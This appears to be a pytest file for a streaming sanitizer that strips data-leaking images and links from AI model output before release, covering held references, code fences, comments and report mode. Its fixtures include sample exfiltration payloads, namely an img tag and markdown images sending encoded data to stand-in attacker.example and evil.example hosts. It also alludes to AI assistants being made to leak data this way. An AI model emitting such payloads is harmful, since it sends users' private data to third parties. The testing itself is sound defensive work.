"""The streaming Sanitizer: what it releases when, and what it holds back.

Tests read as transcripts: chunks in, text out. The promise under test is that nothing is
released before the construct it belongs to is complete, that references defined later are
honoured, and that the work done does not grow with the number of chunks.
"""

from __future__ import annotations

import pytest

from egresslock import sanitize
from egresslock.policy import parse_policy
from egresslock.sanitize import SanitizePolicy, Sanitizer
from egresslock.sanitize.stream import Engine
from tests.sanitize.conftest import POLICY_TEXT


def _transcript(compiled: SanitizePolicy, chunks: list[str]) -> list[str]:
    stream = Sanitizer(compiled)
    return [stream.feed(chunk) for chunk in chunks] + [stream.close()]


def test_streamed_image_is_never_released_half_read(compiled: SanitizePolicy) -> None:
    text = ('Sure.\n\n<img src="https://legit.attacker.example/?leak=cHJpdmF0ZQ==">\n\n'
            "![x](https://attacker.example/p.png?d=1) done\n\nBye.\n")
    released = ""
    stream = Sanitizer(compiled)
    for char in text:  # GitLab Duo's answers arrived token by token
        released += stream.feed(char)
        assert "attacker" not in released
    released += stream.close()
    assert released == sanitize.markdown(text, compiled)
    assert "attacker" not in released


def test_a_unit_is_released_when_the_next_block_starts(compiled: SanitizePolicy) -> None:
    assert _transcript(compiled, ["First para", "graph.\n", "\n", "S", "econd.\n"]) == [
        "", "", "", "First paragraph.\n\n", "", "Second.\n"]


def test_an_unfinished_image_waits_for_its_end(compiled: SanitizePolicy) -> None:
    out = _transcript(compiled, ["![x](https://evil.example/?d=", "1)\n\n", "Next"])
    assert out == ["", "", "x\n\n", "Next"]


def test_a_reference_used_before_its_definition_is_held(compiled: SanitizePolicy) -> None:
    out = _transcript(compiled, [
        "Intro.\n\n", "Chart: ![c][ref]\n\n", "More text.\n\n", "Even more.\n\n",
        "[ref]: https://evil.example/c.png\n"])
    assert out[0] == ""                   # "Intro." waits for the next block to begin
    assert out[1] == "Intro.\n\n"
    assert out[2] == out[3] == ""         # held behind the unresolved reference
    assert "".join(out) == "Intro.\n\nChart: c\n\nMore text.\n\nEven more.\n\n\n"


def test_held_text_resumes_once_the_label_is_defined(compiled: SanitizePolicy) -> None:
    out = _transcript(compiled, [
        "See [the guide][g].\n\n", "[g]: https://docs.acme-corp.example/guide\n\n",
        "After.\n\n", "Tail"])
    assert out[2] == "See [the guide](<https://docs.acme-corp.example/guide>).\n\n\n\n"


def test_bracketed_text_never_defined_is_released_at_close(compiled: SanitizePolicy) -> None:
    out = _transcript(compiled, ["- [x] done\n\n", "Next.\n\n", "Last"])
    assert out == ["", "", "", "- [x] done\n\nNext.\n\nLast"]


def test_an_open_fence_holds_until_it_closes(compiled: SanitizePolicy) -> None:
    out = _transcript(compiled, [
        "```python\ndef f():\n    pass\n\n", "def g():\n    pass\n", "```\n\n", "Text"])
    assert out[:3] == ["", "", ""]
    assert out[3] == "```python\ndef f():\n    pass\n\ndef g():\n    pass\n```\n\n"


def test_an_html_comment_holds_until_it_closes(compiled: SanitizePolicy) -> None:
    out = _transcript(compiled, ["<!--\n\n", "![x](https://evil.example/a.png)\n\n",
                                 "-->\n\n", "After"])
    assert "".join(out) == sanitize.markdown("".join(
        ["<!--\n\n", "![x](https://evil.example/a.png)\n\n", "-->\n\n", "After"]), compiled)
    assert "evil.example" not in "".join(out)


def test_line_endings_split_across_chunks(compiled: SanitizePolicy) -> None:
    assert "".join(_transcript(compiled, ["a\r", "\nb\r", "\r\nc\x00"])) == "a\nb\n\nc\ufffd"


def test_html_is_released_at_close(compiled: SanitizePolicy) -> None:
    stream = Sanitizer(compiled, fmt="html")
    assert stream.feed("<p>a <img src=https://evil.example/x>") == ""
    assert stream.close() == "<p>a </p>"


def test_feed_after_close_is_an_error(compiled: SanitizePolicy) -> None:
    stream = Sanitizer(compiled)
    stream.close()
    with pytest.raises(RuntimeError, match="after close"):
        stream.feed("x")


def test_report_mode_changes_nothing_and_reports() -> None:
    policy = parse_policy(POLICY_TEXT.replace("version: 1\n", "version: 1\nmode: report\n"))
    removals: list[sanitize.Removal] = []
    text = "![x](https://evil.example/?d=1)\n"
    assert sanitize.markdown(text, policy, on_removal=removals.append) == text
    assert [r.host for r in removals] == ["evil.example"]


def test_removals_are_reported_as_decided(compiled: SanitizePolicy) -> None:
    seen: list[str] = []
    stream = Sanitizer(compiled, on_removal=lambda r: seen.append(r.element))
    stream.feed("[a](https://evil.example/)\n\n")
    assert seen == []
    stream.feed("Next")
    assert seen == ["link"]
    assert [r.element for r in stream.removals] == ["link"]


def _count_parses(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    calls = [0]
    real = Engine.parse

    def counting(self: Engine, *args: object, **kwargs: object) -> object:
        calls[0] += 1
        return real(self, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(Engine, "parse", counting)
    return calls


def test_small_chunks_do_not_reparse_a_long_fence(compiled: SanitizePolicy,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    calls = _count_parses(monkeypatch)
    body = "x = [1]\n\ny = 2\n" * 4000
    text = "Intro [a](https://docs.acme-corp.example/)\n```\n" + body + "```\n\nEnd.\n"
    stream = Sanitizer(compiled)
    out = "".join(stream.feed(text[i : i + 100]) for i in range(0, len(text), 100))
    out += stream.close()
    assert out == sanitize.markdown(text, compiled)
    assert calls[0] <= 12  # per unit and settle pass, never per chunk


def test_small_chunks_do_not_reparse_a_held_reference(compiled: SanitizePolicy,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    calls = _count_parses(monkeypatch)
    text = "Uses [x].\n\n" + "A [link](https://docs.acme-corp.example/) here.\n\n" * 300
    stream = Sanitizer(compiled)
    for i in range(0, len(text), 100):
        assert stream.feed(text[i : i + 100]) == ""
    stream.close()
    assert calls[0] <= 2 * 301 + 2
